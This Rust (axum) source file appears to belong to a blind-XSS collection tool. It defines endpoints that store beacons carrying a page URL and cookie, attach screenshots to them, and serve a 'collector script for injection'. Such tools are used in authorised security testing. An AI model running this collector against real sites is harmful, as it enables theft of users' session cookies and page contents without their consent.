//! Ingest endpoints
//!
//! - POST /api/get        - record a beacon (url, cookie)
//! - POST /api/screenshot - attach a screenshot to earlier beacon(s)
//! - GET  /payload.js     - collector script for injection
//!
//! Handlers keep no in-process state; every request is one store round trip.

use axum::{
    extract::{DefaultBodyLimit, State},
    http::{header, Method, StatusCode},
    response::IntoResponse,
    routing::{get, post},
    Json, Router,
};
use serde::Serialize;
use xss_core::payload::{BEACON_PATH, SCREENSHOT_PATH, SCRIPT_PATH};
use xss_core::{BeaconRequest, Correlation, IngestRecord, ScreenshotRequest};

use crate::app::SharedState;
use crate::error::ApiError;

// ============================================================================
// Response Types
// ============================================================================

/// Body of a successful `POST /api/get`
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct BeaconResponse {
    /// Always `Record inserted`
    pub message: &'static str,
    /// The stored record; its `id` is echoed by the screenshot call
    pub inserted_data: IngestRecord,
}

/// Body of a successful `POST /api/screenshot`
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ScreenshotResponse {
    /// Always `Record updated`
    pub message: &'static str,
    /// Rows the screenshot was attached to; empty when nothing matched
    pub updated_data: Vec<IngestRecord>,
}

// ============================================================================
// Handlers
// ============================================================================

async fn record_beacon(
    State(state): State<SharedState>,
    Json(req): Json<BeaconRequest>,
) -> Result<Json<BeaconResponse>, ApiError> {
    let record = req.into_record(state.clock.now());

    let inserted = state
        .store
        .insert(record)
        .await
        .map_err(ApiError::store("Failed to insert record"))?;

    tracing::info!(id = inserted.id, url = %inserted.url, "Beacon recorded");

    Ok(Json(BeaconResponse {
        message: "Record inserted",
        inserted_data: inserted,
    }))
}

async fn attach_screenshot(
    State(state): State<SharedState>,
    Json(req): Json<ScreenshotRequest>,
) -> Result<Json<ScreenshotResponse>, ApiError> {
    let update = req.validate()?;
    let screenshot = update.screenshot.as_deref();

    let updated = match &update.target {
        Correlation::Url(url) => state.store.update_screenshot_by_url(url, screenshot).await,
        Correlation::Record { id, url } => {
            state
                .store
                .update_screenshot_by_id(*id, url, screenshot)
                .await
        }
    }
    .map_err(ApiError::store("Failed to update record"))?;

    if updated.is_empty() {
        tracing::debug!(url = %update.target.url(), "Screenshot matched no record");
    } else {
        tracing::info!(
            url = %update.target.url(),
            matched = updated.len(),
            "Screenshot attached"
        );
    }

    Ok(Json(ScreenshotResponse {
        message: "Record updated",
        updated_data: updated,
    }))
}

/// Pre-flight that reached the route (CORS headers come from the layer).
async fn preflight() -> StatusCode {
    StatusCode::OK
}

async fn method_not_allowed(method: Method) -> ApiError {
    ApiError::UnsupportedMethod(method)
}

async fn collector_script(State(state): State<SharedState>) -> impl IntoResponse {
    (
        [(header::CONTENT_TYPE, "application/javascript; charset=utf-8")],
        state.payload.collector_script(),
    )
}

// ============================================================================
// Router
// ============================================================================

pub fn ingest_router(state: SharedState) -> Router {
    let screenshot_limit = DefaultBodyLimit::max(state.max_screenshot_bytes);

    Router::new()
        .route(
            BEACON_PATH,
            post(record_beacon)
                .options(preflight)
                .fallback(method_not_allowed),
        )
        .route(
            SCREENSHOT_PATH,
            post(attach_screenshot)
                .options(preflight)
                .fallback(method_not_allowed)
                .layer(screenshot_limit),
        )
        .route(SCRIPT_PATH, get(collector_script))
        .with_state(state)
}
